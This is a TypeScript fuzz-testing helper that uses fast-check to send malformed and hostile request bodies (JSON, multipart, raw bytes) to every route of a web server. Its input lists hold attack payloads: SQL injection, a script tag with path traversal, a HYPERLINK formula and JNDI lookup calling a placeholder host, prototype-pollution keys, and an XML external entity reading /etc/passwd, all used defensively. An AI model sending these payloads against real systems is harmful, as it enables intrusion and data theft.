import fc from 'fast-check';
import type { AnyRoute } from '../../src/server/platform/http/route-definition';
import type { RouteRequest } from '../setup/route-cases';
import { multipart, type MultipartPart } from './multipart';

/** A request body as sent: raw text or bytes with its content type, or no body at all. */
export interface FuzzBody {
  label: string;
  payload?: string | Buffer;
  headers: Record<string, string>;
}

export type JsonPath = (string | number)[];

/** Text a client may type that must stay text: SQL, markup, paths, formulas, lookups, and Unicode traps. */
export const hostileStrings = [
  "'; DROP TABLE partners; --",
  '<script>alert(1)</script> ../../etc/passwd',
  '=HYPERLINK("http://contoh.example/x","klik") ${jndi:ldap://contoh.example/a}',
  'Mitra \u202Eexe.fdp\u200B\u200D\uFEFF 🤝👩🏽‍💼',
  'nol\u0000bait',
  'separuh \uD800 surrogat',
] as const;

const deeplyNested = (depth: number): unknown => {
  let value: unknown = 'dasar';
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { lapis: value };
  return value;
};

const json = { 'content-type': 'application/json' };

/** A body that fast-check prints by its label: a 300 KB payload would drown a counterexample. */
export function fuzzBody(
  label: string,
  payload: string | Buffer | undefined,
  headers: Record<string, string>,
): FuzzBody {
  return {
    label,
    ...(payload === undefined ? {} : { payload }),
    headers,
    [fc.toStringMethod]: () => label,
  } as FuzzBody;
}

const labelled = (bodies: FuzzBody[]): FuzzBody[] =>
  bodies.map((body) => fuzzBody(body.label, body.payload, body.headers));

/** Bodies no route may parse into a request, sent to every route: broken syntax, a poisoned key, deep nesting, oversize. */
export const malformedBodies: FuzzBody[] = labelled([
  { label: 'unterminated JSON', payload: '{"nama": ', headers: json },
  { label: '__proto__ key', payload: '{"__proto__": {"isAdmin": true}}', headers: json },
  { label: '20,000 nested arrays', payload: `${'['.repeat(20_000)}${']'.repeat(20_000)}`, headers: json },
  { label: 'body over 256 KiB', payload: JSON.stringify({ isi: 'a'.repeat(300_000) }), headers: json },
]);

/** More of the same kind, drawn by fast-check. */
export const moreMalformedBodies: FuzzBody[] = labelled([
  {
    label: 'invalid UTF-8',
    payload: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
    headers: json,
  },
  { label: 'plain text', payload: 'nama=x', headers: { 'content-type': 'text/plain' } },
  { label: 'single-quoted JSON', payload: "{'nama': 'x'}", headers: json },
  { label: 'trailing comma', payload: '{"nama": "x",}', headers: json },
  { label: 'empty JSON body', payload: '', headers: json },
  {
    label: 'constructor.prototype key',
    payload: '{"constructor": {"prototype": {"isAdmin": true}}}',
    headers: json,
  },
  { label: 'JSON null', payload: 'null', headers: json },
  { label: 'JSON array', payload: '[]', headers: json },
  { label: 'JSON string', payload: '"teks"', headers: json },
  {
    label: 'a NUL 20,000 levels deep',
    payload: `${'['.repeat(20_000)}"\\u0000"${']'.repeat(20_000)}`,
    headers: json,
  },
  {
    label: 'form encoded',
    payload: 'nama=x',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  },
  {
    label: 'XML with an external entity',
    payload: '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
    headers: { 'content-type': 'application/xml' },
  },
]);

export function jsonBody(label: string, value: unknown): FuzzBody {
  return fuzzBody(label, JSON.stringify(value), json);
}

const isRecord = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

/** Every field of a payload, nested ones included, as a path from the top. */
export function fieldPaths(value: unknown, prefix: JsonPath = []): JsonPath[] {
  const entries: [string | number, unknown][] = Array.isArray(value)
    ? value.map((item, index) => [index, item])
    : isRecord(value)
      ? Object.entries(value)
      : [];
  return entries.flatMap(([key, child]) => [[...prefix, key], ...fieldPaths(child, [...prefix, key])]);
}

export function valueAt(value: unknown, path: JsonPath): unknown {
  return path.reduce<unknown>((node, key) => (node as Record<string | number, unknown>)[key], value);
}

export function withValueAt(value: unknown, path: JsonPath, replacement: unknown): unknown {
  if (path.length === 0) return replacement;
  const [key, ...rest] = path as [string | number, ...JsonPath];
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<
    string | number,
    unknown
  >;
  copy[key] = withValueAt(copy[key], rest, replacement);
  return copy;
}

/** A value of another JSON type than the field's: the contract must refuse it by type. */
export function wrongTypeFor(value: unknown): unknown {
  if (typeof value === 'string') return 12345;
  if (typeof value === 'number') return String(value);
  if (typeof value === 'boolean') return String(value);
  if (value === null) return { kosong: false };
  if (Array.isArray(value)) return { 0: value[0] ?? 'x' };
  return [value];
}

/** Any JSON a field could be given instead of its own: wrong types, extremes, nesting, hostile text. */
export const strangeValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(null, true, 0, -1, 1.5, 1e308, -1e308, '', [], {}),
  fc.constant('x'.repeat(70_000)),
  fc.constant(deeplyNested(1_000)),
  fc.integer(),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom<unknown>(...hostileStrings),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Parses a multipart body built by `multipart()` back into its parts, bytes unchanged. */
export function multipartParts(payload: Buffer, contentType: string): MultipartPart[] {
  const boundary = /boundary=(.+)$/.exec(contentType)?.[1];
  if (!boundary) throw new Error(`no boundary in ${contentType}`);
  return payload
    .toString('latin1')
    .split(`--${boundary}`)
    .slice(1, -1)
    .map((chunk) => {
      const headEnd = chunk.indexOf('\r\n\r\n');
      const head = chunk.slice(2, headEnd);
      const content = Buffer.from(chunk.slice(headEnd + 4, -2), 'latin1');
      const name = /; name="([^"]*)"/.exec(head)?.[1] ?? '';
      const filename = /; filename="([^"]*)"/.exec(head)?.[1];
      const type = /Content-Type: (.+)/i.exec(head)?.[1];
      return filename === undefined ? { name, content } : { name, content, filename, contentType: type };
    });
}

export function multipartBody(label: string, parts: MultipartPart[]): FuzzBody {
  const { payload, headers } = multipart(parts);
  return fuzzBody(label, payload, headers);
}

const bodyKindOf = (route: AnyRoute) => route.bodyKind?.kind ?? 'json';

/** The fixed bodies each route gets before the generated ones. */
export function fixedBodiesFor(route: AnyRoute, request: RouteRequest): FuzzBody[] {
  const kind = bodyKindOf(route);
  if (kind === 'multipart') {
    const parts = multipartParts(request.payload as Buffer, request.headers!['content-type']!);
    const whole = multipart(parts);
    const texts = parts.filter((part) => part.filename === undefined);
    const replaceFile = (content: Buffer): MultipartPart[] =>
      parts.map((part) => (part.filename === undefined ? part : { ...part, content }));
    return [
      ...malformedBodies,
      multipartBody('no file part', texts),
      multipartBody(
        'a file of executable bytes',
        replaceFile(Buffer.from('MZ\x90\x00\x03\x00\x00\x00PE\x00\x00', 'latin1')),
      ),
      multipartBody('an empty file', replaceFile(Buffer.alloc(0))),
      multipartBody('two files', [...parts, ...parts.filter((part) => part.filename !== undefined)]),
      multipartBody('eleven more text fields', [
        ...parts,
        ...Array.from({ length: 11 }, (_, index) => ({ name: `isian${index}`, content: 'x' })),
      ]),
      fuzzBody('cut off halfway', whole.payload.subarray(0, whole.payload.length >> 1), whole.headers),
      fuzzBody('multipart without a boundary', whole.payload, { 'content-type': 'multipart/form-data' }),
      jsonBody(
        'JSON instead of a form',
        Object.fromEntries(texts.map((part) => [part.name, String(part.content)])),
      ),
    ];
  }
  if (kind === 'bytes') {
    const bytes = request.payload as Buffer;
    const type = request.headers!['content-type']!;
    return [
      ...malformedBodies,
      fuzzBody('no bytes', Buffer.alloc(0), { 'content-type': type }),
      fuzzBody('the first half of the file', bytes.subarray(0, bytes.length >> 1), {
        'content-type': type,
      }),
      fuzzBody('executable bytes', Buffer.from('MZ\x90\x00\x03\x00\x00\x00PE\x00\x00', 'latin1'), {
        'content-type': type,
      }),
      fuzzBody('the file declared as GIF', bytes, { 'content-type': 'image/gif' }),
      ...['image/png', 'image/jpeg', 'application/pdf']
        .filter((other) => other !== type)
        .map((other) => fuzzBody(`the file declared as ${other}`, bytes, { 'content-type': other })),
    ];
  }
  const base = request.payload;
  const paths = fieldPaths(base);
  const textPaths = paths.filter((path) => typeof valueAt(base, path) === 'string');
  const withEveryText = (text: string) =>
    textPaths.reduce<unknown>((body, path) => withValueAt(body, path, text), base);
  return [
    ...malformedBodies,
    ...(textPaths.length > 0
      ? [jsonBody('every text field 20,000 characters', withEveryText('a'.repeat(20_000)))]
      : []),
    ...(paths.length > 0
      ? [
          jsonBody(
            `${paths[0]!.join('.')} nested 1,000 deep`,
            withValueAt(base, paths[0]!, JSON.parse(`${'['.repeat(1000)}1${']'.repeat(1000)}`)),
          ),
        ]
      : []),
  ];
}

/** Generated bodies: the route's own request with one part made strange, or something else entirely. */
export function generatedBodiesFor(route: AnyRoute, request: RouteRequest): fc.Arbitrary<FuzzBody> {
  const kind = bodyKindOf(route);
  if (kind === 'multipart') {
    const parts = multipartParts(request.payload as Buffer, request.headers!['content-type']!);
    const whole = multipart(parts);
    const strangeText = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.constantFrom(...hostileStrings),
    );
    return fc.oneof(
      fc.tuple(fc.constantFrom(...parts.keys()), strangeText).map(([index, text]) =>
        multipartBody(
          `part ${parts[index]!.name} = ${JSON.stringify(text)}`,
          parts.map((part, at) => (at === index ? { ...part, content: text } : part)),
        ),
      ),
      fc.uint8Array({ maxLength: 600 }).map((bytes) =>
        multipartBody(
          `file of ${bytes.length} random bytes`,
          parts.map((part) =>
            part.filename === undefined ? part : { ...part, content: Buffer.from(bytes) },
          ),
        ),
      ),
      fc
        .nat({ max: whole.payload.length - 1 })
        .map((end) => fuzzBody(`form cut at byte ${end}`, whole.payload.subarray(0, end), whole.headers)),
    );
  }
  if (kind === 'bytes') {
    return fc
      .tuple(
        fc.constantFrom('image/png', 'image/jpeg', 'application/pdf'),
        fc.uint8Array({ maxLength: 1024 }),
      )
      .map(([type, bytes]) =>
        fuzzBody(`${bytes.length} random bytes as ${type}`, Buffer.from(bytes), { 'content-type': type }),
      );
  }
  const base = request.payload;
  const paths = fieldPaths(base);
  const whole = fc.oneof(
    fc.constantFrom(...malformedBodies, ...moreMalformedBodies),
    fc
      .jsonValue({ maxDepth: 3 })
      .map((value) => jsonBody(`random JSON ${JSON.stringify(value).slice(0, 80)}`, value)),
  );
  if (paths.length === 0) return whole;
  const oneField = fc
    .tuple(fc.constantFrom(...paths), strangeValue)
    .map(([path, value]) =>
      jsonBody(`${path.join('.')} = ${JSON.stringify(value).slice(0, 80)}`, withValueAt(base, path, value)),
    );
  return fc.oneof(oneField, oneField, whole);
}
